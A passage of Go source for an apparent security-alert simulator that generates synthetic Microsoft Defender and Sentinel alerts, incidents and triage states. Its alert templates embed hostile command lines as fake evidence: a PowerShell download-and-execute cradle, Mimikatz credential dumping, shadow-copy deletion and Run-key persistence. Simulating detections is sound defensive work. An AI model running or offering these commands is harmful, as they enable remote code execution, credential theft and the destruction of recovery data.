package simulator

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// alertTemplate is one kind of detection a Defender product raises.
type alertTemplate struct {
	source, detection, product string
	idPrefix                   string // Graph alert ids start with a product prefix ("da", "fa", ...)
	title, category            string
	techniques                 []string
	description, actions       string
	theme                      string // endpoint, email, identity, cloud
	threatFamily, threatName   string
	evidence                   func(p *pools, c *alertContext, r *rand.Rand) []any
}

func endpointProcess(p *pools, c *alertContext, r *rand.Rand, image, parent, cmd string) map[string]any {
	return processEvidence(c, r, p.binaries[image], p.binaries[parent], cmd, 1000+r.IntN(12000), pick(r, []string{"suspicious", "malicious", "unknown"}))
}

var alertTemplates = []alertTemplate{
	{
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", product: "Microsoft Defender for Endpoint", idPrefix: "da",
		title: "Suspicious PowerShell command line", category: "Execution", techniques: []string{"T1059.001"}, theme: "endpoint",
		description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
		actions:     "1. Examine the PowerShell command line to understand what commands were executed.\n2. Search the script for more indicators to investigate.\n3. Explore the timeline of this and other related machines.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			url := fmt.Sprintf("https://%s/a.ps1", c.domain)
			return []any{deviceEvidence(c, r, true), userEvidence(c, r, "unknown"), urlEvidence(c, r), ipEvidence(c, r),
				endpointProcess(p, c, r, "powershell.exe", "cmd.exe", fmt.Sprintf(`powershell.exe -NoP -NonI -W Hidden -Exec Bypass -c "IEX (New-Object Net.WebClient).DownloadString('%s')"`, url))}
		},
	},
	{
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", product: "Microsoft Defender for Endpoint", idPrefix: "da",
		title: "Suspicious process discovery", category: "Discovery", techniques: []string{"T1057", "T1033"}, theme: "endpoint",
		description: "A known tool or technique was used to gather information on this device. Attackers might be trying to gather information about the target device or network for later attacks.",
		actions:     "A. Validate the alert.\n1. Review the alert and inspect the tool that was used to gather information.\n2. Check for other suspicious activities in the device timeline.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{deviceEvidence(c, r, true), userEvidence(c, r, "unknown"),
				endpointProcess(p, c, r, "whoami.exe", "cmd.exe", "whoami /all"),
				endpointProcess(p, c, r, "cmd.exe", "explorer.exe", `"cmd.exe" /c tasklist /v`)}
		},
	},
	{
		source: "microsoftDefenderForEndpoint", detection: "antivirus", product: "Microsoft Defender for Endpoint", idPrefix: "da",
		title: "'Mimikatz' credential theft tool", category: "CredentialAccess", techniques: []string{"T1003.001"}, theme: "endpoint",
		threatFamily: "Mimikatz", threatName: "HackTool:Win32/Mimikatz!pz",
		description: "The credential theft tool Mimikatz was detected on this device. Attackers use it to dump credentials from memory.",
		actions:     "1. Isolate the device.\n2. Reset the credentials of every account that signed in to the device.\n3. Run a full antivirus scan.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			f := p.malware[0]
			return []any{deviceEvidence(c, r, true), fileEvidence(c, r, f), userEvidence(c, r, "suspicious"),
				processEvidence(c, r, f, p.binaries["cmd.exe"], `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, 4000+r.IntN(4000), "malicious")}
		},
	},
	{
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", product: "Microsoft Defender for Endpoint", idPrefix: "da",
		title: "Anomaly detected in ASEP registry", category: "Persistence", techniques: []string{"T1547.001"}, theme: "endpoint",
		description: "A process registered a suspicious command or file in an autostart extensibility point (ASEP) registry key, so it runs after a restart.",
		actions:     "1. Review the registry modification and the process that made it.\n2. Remove the persistence entry if it is not legitimate.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			key := `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`
			return []any{deviceEvidence(c, r, true), registryKeyEvidence(c, r, key),
				registryValueEvidence(c, r, key, "OneDriveUpdate", `C:\ProgramData\Microsoft\Crypto\svchost32.exe -k netsvcs`),
				endpointProcess(p, c, r, "reg.exe", "cmd.exe", `reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v OneDriveUpdate /d C:\ProgramData\Microsoft\Crypto\svchost32.exe /f`),
				fileEvidence(c, r, p.malware[2])}
		},
	},
	{
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", product: "Microsoft Defender for Endpoint", idPrefix: "da",
		title: "Ransomware behavior detected in the file system", category: "Impact", techniques: []string{"T1486", "T1490"}, theme: "endpoint",
		threatFamily: "LockBit", threatName: "Ransom:Win32/LockBit.AA",
		description: "Files on this device were encrypted and renamed in a way typical of ransomware.",
		actions:     "1. Isolate the device immediately.\n2. Identify the initial access vector.\n3. Restore files from backup.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			f := p.malware[5]
			return []any{deviceEvidence(c, r, true), fileEvidence(c, r, f), userEvidence(c, r, "suspicious"),
				processEvidence(c, r, f, p.binaries["explorer.exe"], `locker.exe -path C:\Shares -nomutex`, 2000+r.IntN(8000), "malicious"),
				endpointProcess(p, c, r, "wmic.exe", "cmd.exe", "wmic shadowcopy delete /nointeractive")}
		},
	},
	{
		source: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint", product: "Microsoft Defender for Endpoint", idPrefix: "da",
		title: "Suspicious Office macro execution", category: "InitialAccess", techniques: []string{"T1566.001", "T1204.002"}, theme: "endpoint",
		description: "A Word document ran a macro that started a suspicious child process.",
		actions:     "1. Review the document origin.\n2. Check whether the child process downloaded additional payloads.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{deviceEvidence(c, r, true), fileEvidence(c, r, p.malware[1]), userEvidence(c, r, "unknown"),
				endpointProcess(p, c, r, "rundll32.exe", "WINWORD.EXE", fmt.Sprintf(`rundll32.exe C:\Users\%s\AppData\Local\Temp\update.dll,DllRegisterServer`, c.user.accountName)),
				ipEvidence(c, r)}
		},
	},
	{
		source: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", product: "Microsoft Defender for Office 365", idPrefix: "fa",
		title: "Email messages containing malicious URL removed after delivery", category: "InitialAccess", techniques: []string{"T1566.002"}, theme: "email",
		description: "Emails with a malicious URL were delivered and later removed by zero-hour auto purge.",
		actions:     "Review the recipients who clicked the URL and reset their credentials if they entered them.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{mailboxEvidence(c, r), analyzedMessageEvidence(p, c, r), urlEvidence(c, r), userEvidence(c, r, "unknown")}
		},
	},
	{
		source: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", product: "Microsoft Defender for Office 365", idPrefix: "fa",
		title: "A potentially malicious URL click was detected", category: "InitialAccess", techniques: []string{"T1566.002"}, theme: "email",
		description: "A user clicked a URL that was later identified as malicious.",
		actions:     "Investigate the user's sign-ins after the click and reset the credentials if needed.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{urlEvidence(c, r), mailboxEvidence(c, r), userEvidence(c, r, "suspicious"), ipEvidence(c, r), analyzedMessageEvidence(p, c, r)}
		},
	},
	{
		source: "microsoftDefenderForOffice365", detection: "microsoftDefenderForOffice365", product: "Microsoft Defender for Office 365", idPrefix: "fa",
		title: "Email reported by user as malware or phish", category: "InitialAccess", techniques: []string{"T1566"}, theme: "email",
		description: "A user reported an email as phishing. Similar messages were found in other mailboxes.",
		actions:     "Review the message cluster and remove the messages from every mailbox.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{mailClusterEvidence(c, r), analyzedMessageEvidence(p, c, r), mailboxEvidence(c, r)}
		},
	},
	{
		source: "microsoftDefenderForIdentity", detection: "microsoftDefenderForIdentity", product: "Microsoft Defender for Identity", idPrefix: "aa",
		title: "Suspected DCSync attack (replication of directory services)", category: "CredentialAccess", techniques: []string{"T1003.006"}, theme: "identity",
		description: "A replication request was sent from a computer that is not a domain controller.",
		actions:     "1. Check whether the source computer should replicate.\n2. Reset the krbtgt password twice if the activity is malicious.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "suspicious"), deviceEvidence(c, r, true), ipEvidence(c, r), securityGroupEvidence(c, r)}
		},
	},
	{
		source: "microsoftDefenderForIdentity", detection: "microsoftDefenderForIdentity", product: "Microsoft Defender for Identity", idPrefix: "aa",
		title: "Suspected brute-force attack (LDAP)", category: "CredentialAccess", techniques: []string{"T1110", "T1110.003"}, theme: "identity",
		description: "Many authentication attempts with wrong passwords were made against several accounts from one computer.",
		actions:     "Enforce complex passwords and investigate the source computer.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "unknown"), deviceEvidence(c, r, false), ipEvidence(c, r)}
		},
	},
	{
		source: "microsoftDefenderForCloudApps", detection: "microsoftDefenderForCloudApps", product: "Microsoft Defender for Cloud Apps", idPrefix: "ca",
		title: "Impossible travel activity", category: "InitialAccess", techniques: []string{"T1078"}, theme: "identity",
		description: "The user signed in from two countries within a time span shorter than the travel time between them.",
		actions:     "Contact the user and confirm the sign-ins; revoke sessions if they were not theirs.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "suspicious"), ipEvidence(c, r), cloudApplicationEvidence(p, c, r)}
		},
	},
	{
		source: "microsoftDefenderForCloudApps", detection: "microsoftDefenderForCloudApps", product: "Microsoft Defender for Cloud Apps", idPrefix: "ca",
		title: "Mass download by a single user", category: "Exfiltration", techniques: []string{"T1530"}, theme: "cloud",
		description: "A user downloaded an unusually large number of files in a short time.",
		actions:     "Review the downloaded files and the user's recent activity.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "suspicious"), cloudApplicationEvidence(p, c, r), ipEvidence(c, r)}
		},
	},
	{
		source: "microsoftDefenderForCloudApps", detection: "microsoftDefenderForCloudApps", product: "Microsoft Defender for Cloud Apps", idPrefix: "ca",
		title: "Suspicious inbox manipulation rule", category: "DefenseEvasion", techniques: []string{"T1564.008"}, theme: "email",
		description: "A rule that moves or deletes messages was created in the user's inbox.",
		actions:     "Remove the rule and review the consented applications.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{mailboxEvidence(c, r), userEvidence(c, r, "suspicious"), cloudApplicationEvidence(p, c, r), oauthApplicationEvidence(p, c, r)}
		},
	},
	{
		source: "microsoftDefenderForCloud", detection: "microsoftDefenderForStorage", product: "Microsoft Defender for Cloud", idPrefix: "dc",
		title: "Access from a Tor exit node to a storage account", category: "InitialAccess", techniques: []string{"T1190"}, theme: "cloud",
		description: "A storage account was accessed from a known Tor exit node.",
		actions:     "Restrict network access to the storage account and rotate its keys.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{azureResourceEvidence(p, c, r), ipEvidence(c, r)}
		},
	},
	{
		source: "microsoftDefenderForCloud", detection: "microsoftDefenderForResourceManager", product: "Microsoft Defender for Cloud", idPrefix: "dc",
		title: "Suspicious Azure role assignment detected", category: "PrivilegeEscalation", techniques: []string{"T1098"}, theme: "cloud",
		description: "A role assignment was made from an unusual location or by an unusual principal.",
		actions:     "Review the assignment and remove it if it is not expected.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{azureResourceEvidence(p, c, r), userEvidence(c, r, "suspicious"), ipEvidence(c, r)}
		},
	},
	{
		source: "microsoftSentinel", detection: "scheduledAlerts", product: "Microsoft Sentinel", idPrefix: "sn",
		title: "Multiple failed sign-ins followed by a successful sign-in", category: "CredentialAccess", techniques: []string{"T1110"}, theme: "identity",
		description: "An analytics rule found a burst of failed sign-ins followed by a successful one for the same account.",
		actions:     "Verify the sign-in with the user and require MFA.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "suspicious"), ipEvidence(c, r)}
		},
	},
	{
		source: "microsoftSentinel", detection: "nrtAlerts", product: "Microsoft Sentinel", idPrefix: "sn",
		title: "Rare application consent", category: "Persistence", techniques: []string{"T1098.003"}, theme: "cloud",
		description: "A user consented to an application that is rarely used in the organization.",
		actions:     "Review the application's permissions and revoke the consent if needed.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "unknown"), oauthApplicationEvidence(p, c, r), ipEvidence(c, r)}
		},
	},
	{
		source: "azureAdIdentityProtection", detection: "azureAdIdentityProtection", product: "Microsoft Entra ID Protection", idPrefix: "ad",
		title: "Unfamiliar sign-in properties", category: "InitialAccess", techniques: []string{"T1078.004"}, theme: "identity",
		description: "The sign-in had properties not seen recently for this user.",
		actions:     "Confirm the sign-in with the user; require a password change if it was not theirs.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "suspicious"), ipEvidence(c, r)}
		},
	},
	{
		source: "microsoft365Defender", detection: "microsoft365Defender", product: "Microsoft Defender XDR", idPrefix: "ra",
		title: "Suspicious modification of a sensitive security group", category: "PrivilegeEscalation", techniques: []string{"T1098", "T1078.002"}, theme: "identity",
		description: "A user was added to a sensitive security group in an unusual way.",
		actions:     "Validate the change with the group owner and remove the member if it is not expected.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "suspicious"), securityGroupEvidence(c, r), deviceEvidence(c, r, false)}
		},
	},
	{
		source: "dataLossPrevention", detection: "dataLossPrevention", product: "Microsoft Data Loss Prevention", idPrefix: "dl",
		title: "DLP policy match for a document shared externally", category: "Exfiltration", techniques: []string{"T1567"}, theme: "cloud",
		description: "A document with sensitive information was shared with an external recipient.",
		actions:     "Review the sharing and revoke external access if needed.",
		evidence: func(p *pools, c *alertContext, r *rand.Rand) []any {
			return []any{userEvidence(c, r, "unknown"), cloudApplicationEvidence(p, c, r)}
		},
	},
}

var severityRank = map[string]int{"unknown": 0, "unknownFutureValue": 0, "informational": 1, "low": 2, "medium": 3, "high": 4}

var categoryWords = map[string]string{
	"InitialAccess": "Initial access", "CommandAndControl": "Command and control", "CredentialAccess": "Credential access",
	"DefenseEvasion": "Defense evasion", "PrivilegeEscalation": "Privilege escalation", "LateralMovement": "Lateral movement",
}

func categoryWord(c string) string {
	if w, ok := categoryWords[c]; ok {
		return w
	}
	return c
}

// generator owns the simulated tenant's story: the initial population and the
// changes each Tick applies. Its randomness is derived from the seed only, so
// equal seeds and clocks give equal data.
type generator struct {
	mu           sync.Mutex
	cfg          Config
	tenant       string
	pools        *pools
	ticks        uint64
	nextIncident int
	alertSerial  int
}

func newGenerator(cfg Config, tenant string) *generator {
	r := rand.New(rand.NewPCG(uint64(cfg.Seed), 0x9001))
	return &generator{cfg: cfg, tenant: tenant, pools: newPools(r), nextIncident: 100 + r.IntN(9000)}
}

func weighted[T any](r *rand.Rand, items []T, weights []int) T {
	total := 0
	for _, w := range weights {
		total += w
	}
	n := r.IntN(total)
	for i, w := range weights {
		if n < w {
			return items[i]
		}
		n -= w
	}
	return items[len(items)-1]
}

func (g *generator) randomSeverity(r *rand.Rand) string {
	return weighted(r, []string{"informational", "low", "medium", "high", "unknownFutureValue", "unknown"}, []int{15, 25, 35, 22, 2, 1})
}

var resolutions = []struct{ classification, determination string }{
	{"truePositive", "malware"}, {"truePositive", "multiStagedAttack"}, {"truePositive", "phishing"},
	{"truePositive", "compromisedAccount"}, {"truePositive", "maliciousUserActivity"}, {"truePositive", "unwantedSoftware"},
	{"truePositive", "apt"}, {"falsePositive", "notMalicious"}, {"falsePositive", "notEnoughDataToValidate"},
	{"falsePositive", "other"}, {"informationalExpectedActivity", "securityTesting"},
	{"informationalExpectedActivity", "lineOfBusinessApplication"}, {"informationalExpectedActivity", "confirmedUserActivity"},
	{"informationalExpectedActivity", "securityPersonnel"},
}

// incidentPlan is an incident being generated, before it becomes a record.
type incidentPlan struct {
	id       string
	theme    string
	user     simUser
	device   simDevice
	anchor   time.Time
	alerts   []*record
	redirect string
}

func (g *generator) newIncidentPlan(r *rand.Rand, anchor time.Time) *incidentPlan {
	g.nextIncident++
	return &incidentPlan{
		id:     strconv.Itoa(g.nextIncident),
		theme:  pick(r, []string{"endpoint", "endpoint", "email", "identity", "cloud"}),
		user:   pick(r, g.pools.users),
		device: pick(r, g.pools.devices),
		anchor: anchor,
	}
}

func (g *generator) pickTemplate(r *rand.Rand, theme string) *alertTemplate {
	if r.IntN(10) < 7 {
		var same []int
		for i := range alertTemplates {
			if alertTemplates[i].theme == theme {
				same = append(same, i)
			}
		}
		if len(same) > 0 {
			return &alertTemplates[pick(r, same)]
		}
	}
	return &alertTemplates[r.IntN(len(alertTemplates))]
}

func (g *generator) alertID(r *rand.Rand, prefix string) (id, providerID string) {
	g.alertSerial++
	if prefix == "da" && r.IntN(2) == 0 {
		providerID = fmt.Sprintf("%d_%d", 638000000000000000+int64(r.Int64N(9000000000000000)), -int64(r.Int64N(2147483647)))
	} else {
		providerID = newGUID(r) + "_" + strconv.Itoa(1+r.IntN(3))
	}
	return prefix + providerID, providerID
}

// newAlert builds one alert of inc updated at lastUpdate.
func (g *generator) newAlert(r *rand.Rand, inc *incidentPlan, lastUpdate time.Time) map[string]any {
	t := g.pickTemplate(r, inc.theme)
	created := lastUpdate.Add(-time.Duration(r.Int64N(int64(6 * time.Hour))))
	firstActivity := created.Add(-time.Duration(60+r.IntN(7200)) * time.Second)
	lastActivity := firstActivity.Add(time.Duration(r.Int64N(int64(created.Sub(firstActivity)) + 1)))
	ctx := &alertContext{user: inc.user, device: inc.device, extIP: pick(r, g.pools.publicIPs), domain: pick(r, g.pools.domains), created: created}
	if r.IntN(4) == 0 {
		ctx.user = pick(r, g.pools.users)
	}
	if r.IntN(5) == 0 {
		ctx.device = pick(r, g.pools.devices)
	}
	id, providerID := g.alertID(r, t.idPrefix)
	a := map[string]any{
		"id":                    id,
		"providerAlertId":       providerID,
		"incidentId":            inc.id,
		"status":                "new",
		"severity":              g.randomSeverity(r),
		"classification":        nil,
		"determination":         nil,
		"serviceSource":         t.source,
		"detectionSource":       t.detection,
		"productName":           t.product,
		"detectorId":            newGUID(r),
		"tenantId":              g.tenant,
		"title":                 t.title,
		"description":           t.description,
		"recommendedActions":    t.actions,
		"category":              t.category,
		"assignedTo":            nil,
		"alertWebUrl":           fmt.Sprintf("https://security.microsoft.com/alerts/%s?tid=%s", id, g.tenant),
		"incidentWebUrl":        fmt.Sprintf("https://security.microsoft.com/incidents/%s?tid=%s", inc.id, g.tenant),
		"actorDisplayName":      nil,
		"threatDisplayName":     nil,
		"threatFamilyName":      nil,
		"mitreTechniques":       t.techniques,
		"createdDateTime":       formatGraphTime(created),
		"lastUpdateDateTime":    formatGraphTime(lastUpdate),
		"resolvedDateTime":      nil,
		"firstActivityDateTime": formatGraphTime(firstActivity),
		"lastActivityDateTime":  formatGraphTime(lastActivity),
		"alertPolicyId":         nil,
		"additionalData":        map[string]any{},
		"systemTags":            []string{},
		"comments":              []any{},
		"evidence":              t.evidence(g.pools, ctx, r),
	}
	if t.threatFamily != "" {
		a["threatFamilyName"] = t.threatFamily
		a["threatDisplayName"] = t.threatName
	}
	if t.source == "microsoftDefenderForOffice365" || t.source == "dataLossPrevention" {
		a["alertPolicyId"] = newGUID(r)
	}
	if t.category == "Impact" || r.IntN(15) == 0 {
		a["actorDisplayName"] = pick(r, []string{"Storm-0501", "Octo Tempest", "Manatee Tempest", "Midnight Blizzard"})
	}
	if t.source == "microsoftSentinel" {
		a["customDetails"] = map[string]any{"FailedAttempts": []string{strconv.Itoa(10 + r.IntN(200))}, "Account": []string{ctx.user.upn}}
	}
	if r.IntN(8) == 0 {
		a["systemTags"] = []string{pick(r, []string{"Defender Experts", "Credential Phish", "Ransomware", "BEC Fraud"})}
	}
	// Age drives triage: older alerts are more often worked on or closed.
	age := g.cfg.Now().Sub(lastUpdate)
	switch n := r.IntN(100); {
	case n < 30 || (age > 36*time.Hour && n < 50):
		resolveAlert(r, a, g.pools, lastUpdate)
	case n < 55:
		a["status"] = "inProgress"
		a["assignedTo"] = pick(r, g.pools.users).upn
	}
	if r.IntN(6) == 0 {
		a["comments"] = []any{alertComment(r, g.pools, lastUpdate.Add(-time.Duration(r.IntN(3600))*time.Second))}
	}
	if r.IntN(80) == 0 {
		a["status"] = "unknown"
	}
	return a
}

func alertComment(r *rand.Rand, p *pools, at time.Time) map[string]any {
	return map[string]any{
		"comment": pick(r, []string{"Investigating with the device owner.", "Escalated to tier 2.", "Confirmed with user: not expected.",
			"Isolated the device pending review.", "Known pentest activity, see ticket SEC-4711.", "Reset the user's password and revoked sessions."}),
		"createdByDisplayName": pick(r, p.users).upn,
		"createdDateTime":      formatGraphTime(at),
	}
}

func resolveAlert(r *rand.Rand, a map[string]any, p *pools, at time.Time) {
	res := pick(r, resolutions)
	a["status"] = "resolved"
	a["classification"] = res.classification
	a["determination"] = res.determination
	a["resolvedDateTime"] = formatGraphTime(at)
	a["assignedTo"] = pick(r, p.users).upn
}

// populate creates the initial tenant.
func (g *generator) populate(st *store) {
	g.mu.Lock()
	defer g.mu.Unlock()
	r := rand.New(rand.NewPCG(uint64(g.cfg.Seed), 0xda7a))
	now := g.cfg.Now().UTC().Truncate(100 * time.Nanosecond)
	window := 48 * time.Hour

	nInc := g.cfg.Incidents
	nRedirect := 0
	if g.cfg.AlertsPerIncident <= 0 && nInc >= 10 {
		nRedirect = max(1, nInc/16)
	}
	live := make([]*incidentPlan, 0, nInc)
	for i := 0; i < nInc-nRedirect; i++ {
		live = append(live, g.newIncidentPlan(r, now.Add(-time.Duration(r.Int64N(int64(window))))))
	}

	// How many alerts each live incident groups: one big incident, at least one
	// alert for the others, the rest spread unevenly.
	counts := make([]int, len(live))
	if g.cfg.AlertsPerIncident > 0 {
		for i := range counts {
			counts[i] = g.cfg.AlertsPerIncident
		}
	} else if len(live) > 0 {
		remaining := g.cfg.Alerts
		if len(live) > 1 {
			// Leave at least one alert for each other incident.
			counts[0] = max(1, min(300, remaining*3/10, remaining-(len(live)-1)))
			remaining -= counts[0]
		}
		for i := 1; i < len(live) && remaining > 0; i++ {
			counts[i] = 1
			remaining--
		}
		for ; remaining > 0; remaining-- {
			i := r.IntN(len(live))
			if r.IntN(2) == 0 {
				i = r.IntN(max(1, len(live)/4)) // a few incidents gather most of the rest
			}
			counts[i]++
		}
	}

	var alertRecs []*record
	for i, inc := range live {
		var prev time.Time
		for k := 0; k < counts[i]; k++ {
			// Alerts cluster around the incident's time; bulk updates give
			// runs of alerts with identical lastUpdateDateTime.
			var ts time.Time
			if !prev.IsZero() && r.IntN(4) == 0 {
				ts = prev
			} else {
				ts = inc.anchor.Add(time.Duration(r.Int64N(int64(6*time.Hour))) - 3*time.Hour)
				if ts.After(now.Add(-time.Second)) {
					ts = now.Add(-time.Duration(1+r.IntN(3600)) * time.Second)
				}
				if ts.Before(now.Add(-window)) {
					ts = now.Add(-window).Add(time.Duration(r.IntN(3600)) * time.Second)
				}
				ts = ts.Add(time.Duration(r.IntN(10_000_000)) * 100 * time.Nanosecond).Truncate(100 * time.Nanosecond)
			}
			prev = ts
			a := g.newAlert(r, inc, ts)
			rec, err := newRecord(kindAlert, a)
			if err != nil {
				continue
			}
			inc.alerts = append(inc.alerts, rec)
			alertRecs = append(alertRecs, rec)
		}
	}

	var incRaws []map[string]any
	for _, inc := range live {
		incRaws = append(incRaws, g.buildIncident(r, inc, now))
	}
	for i := 0; i < nRedirect && len(live) > 0; i++ {
		target := live[r.IntN(len(live))]
		plan := g.newIncidentPlan(r, target.anchor.Add(-time.Duration(1+r.IntN(120))*time.Minute))
		plan.redirect = target.id
		incRaws = append(incRaws, g.buildIncident(r, plan, now))
	}

	st.mu.Lock()
	defer st.mu.Unlock()
	for _, rec := range alertRecs {
		st.putAlertLocked(rec)
	}
	for _, inc := range incRaws {
		if rec, err := newRecord(kindIncident, inc); err == nil {
			st.putIncidentLocked(rec)
		}
	}
}

// buildIncident derives an incident's fields from its alerts.
func (g *generator) buildIncident(r *rand.Rand, inc *incidentPlan, now time.Time) map[string]any {
	raw := map[string]any{
		"@odata.type":        "#microsoft.graph.security.incident",
		"id":                 inc.id,
		"tenantId":           g.tenant,
		"incidentWebUrl":     fmt.Sprintf("https://security.microsoft.com/incidents/%s?tid=%s", inc.id, g.tenant),
		"redirectIncidentId": nil,
		"assignedTo":         nil,
		"classification":     "unknown",
		"determination":      "unknown",
		"customTags":         []string{},
		"systemTags":         []string{},
		"description":        nil,
		"summary":            nil,
		"resolvingComment":   nil,
		"lastModifiedBy":     "Microsoft 365 Defender-AlertCorrelation",
		"comments":           []any{},
	}
	if inc.redirect != "" {
		created := inc.anchor
		updated := created.Add(time.Duration(1+r.IntN(30)) * time.Minute)
		if updated.After(now) {
			updated = now
		}
		raw["status"] = "redirected"
		raw["redirectIncidentId"] = inc.redirect
		raw["severity"] = g.randomSeverity(r)
		raw["displayName"] = "Incident merged into incident " + inc.redirect
		raw["createdDateTime"] = formatGraphTime(created)
		raw["lastUpdateDateTime"] = formatGraphTime(updated)
		raw["lastModifiedBy"] = "Microsoft 365 Defender-IncidentMerge"
		return raw
	}
	if r.IntN(4) == 0 {
		raw["customTags"] = []string{pick(r, []string{"Demo", "Production", "VIP", "Tier0", "Pentest"})}
	}
	if r.IntN(5) == 0 {
		raw["systemTags"] = []string{pick(r, []string{"Defender Experts", "Ransomware", "Credential Phish", "BEC Fraud"})}
	}
	if r.IntN(3) == 0 {
		raw["description"] = "Correlated activity across " + inc.theme + " signals."
	}
	if r.IntN(3) == 0 {
		raw["summary"] = fmt.Sprintf("Activity involving %s and %s.", inc.user.displayName, inc.device.name)
	}
	if r.IntN(5) == 0 {
		raw["comments"] = []any{alertComment(r, g.pools, inc.anchor)}
	}
	g.deriveIncidentState(r, raw, inc.alerts, true)
	// Some Graph timestamps come with trailing zeros trimmed; keep clients honest.
	if r.IntN(10) == 0 {
		if t, err := parseGraphTime(raw["lastUpdateDateTime"].(string)); err == nil {
			raw["lastUpdateDateTime"] = formatShortGraphTime(t.Truncate(100 * time.Millisecond))
		}
	}
	return raw
}

// deriveIncidentState sets name, times, severity and status of an incident
// from its alerts. withTimes=false keeps lastUpdateDateTime (Tick sets it).
func (g *generator) deriveIncidentState(r *rand.Rand, raw map[string]any, alerts []*record, withTimes bool) {
	if len(alerts) == 0 {
		return
	}
	severity, resolved, inProgress := "informational", 0, 0
	var created, updated time.Time
	categories := map[string]bool{}
	var catOrder []string
	sources := map[string]bool{}
	for _, a := range alerts {
		if s := a.str("severity"); severityRank[s] > severityRank[severity] {
			severity = s
		}
		switch a.str("status") {
		case "resolved":
			resolved++
		case "inProgress":
			inProgress++
		}
		if c := a.category; c != "" && !categories[c] {
			categories[c] = true
			catOrder = append(catOrder, c)
		}
		if s := a.str("serviceSource"); s != "" {
			sources[s] = true
		}
		if !a.created.IsZero() && (created.IsZero() || a.created.Before(created)) {
			created = a.created
		}
		if a.updated.After(updated) {
			updated = a.updated
		}
	}
	raw["severity"] = severity
	if withTimes {
		raw["createdDateTime"] = formatGraphTime(created)
		raw["lastUpdateDateTime"] = formatGraphTime(updated)
	}
	if len(alerts) == 1 {
		where := "on one endpoint"
		if alerts[0].str("serviceSource") != "microsoftDefenderForEndpoint" {
			where = "involving one user"
		}
		raw["displayName"] = fmt.Sprintf("%s %s", alerts[0].title, where)
	} else {
		sort.Strings(catOrder)
		words := make([]string, 0, 2)
		for _, c := range catOrder[:min(2, len(catOrder))] {
			words = append(words, categoryWord(c))
		}
		scope := "on one endpoint"
		if len(sources) > 1 {
			scope = "on multiple endpoints reported by multiple sources"
		}
		raw["displayName"] = fmt.Sprintf("Multi-stage incident involving %s %s", strings.Join(words, " & "), scope)
	}
	switch {
	case resolved == len(alerts):
		// The incident takes the verdict of its alerts, as an analyst closing it would.
		res := pick(r, resolutions)
		if c, ok := alerts[0].prop("classification"); ok {
			res.classification = c
			res.determination, _ = alerts[0].prop("determination")
		}
		raw["status"] = "resolved"
		raw["classification"] = res.classification
		raw["determination"] = res.determination
		raw["assignedTo"] = pick(r, g.pools.users).upn
		raw["resolvingComment"] = pick(r, []string{"Remediated and closed.", "Benign activity confirmed with the owner.", "Duplicate of an earlier incident."})
		raw["lastModifiedBy"] = raw["assignedTo"]
	case inProgress > 0 || resolved > 0:
		raw["status"] = "inProgress"
		raw["assignedTo"] = pick(r, g.pools.users).upn
		raw["lastModifiedBy"] = raw["assignedTo"]
	case r.IntN(12) == 0:
		raw["status"] = "awaitingAction"
	default:
		raw["status"] = "active"
	}
}

// tick applies one step of tenant life: triage progresses on some alerts and
// new detections arrive, all stamped with the current time.
func (g *generator) tick(st *store) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.ticks++
	r := rand.New(rand.NewPCG(uint64(g.cfg.Seed), 0x71c0000+g.ticks))
	now := g.cfg.Now().UTC().Truncate(100 * time.Nanosecond)
	stamp := formatGraphTime(now)

	st.mu.Lock()
	defer st.mu.Unlock()

	ids := make([]string, 0, len(st.alerts))
	for id := range st.alerts {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	touched := map[string]bool{}

	// A busy tenant still triages only a handful of alerts a minute.
	for n := 1 + min(len(ids)/40, 20); n > 0 && len(ids) > 0; n-- {
		a := st.alerts[ids[r.IntN(len(ids))]].decode()
		switch a["status"] {
		case "new", "unknown", nil:
			a["status"] = "inProgress"
			a["assignedTo"] = pick(r, g.pools.users).upn
		case "inProgress":
			resolveAlert(r, a, g.pools, now)
		default:
			// A resolved alert that fires again is reopened.
			if r.IntN(3) == 0 {
				a["status"] = "new"
				a["classification"], a["determination"], a["resolvedDateTime"] = nil, nil, nil
			}
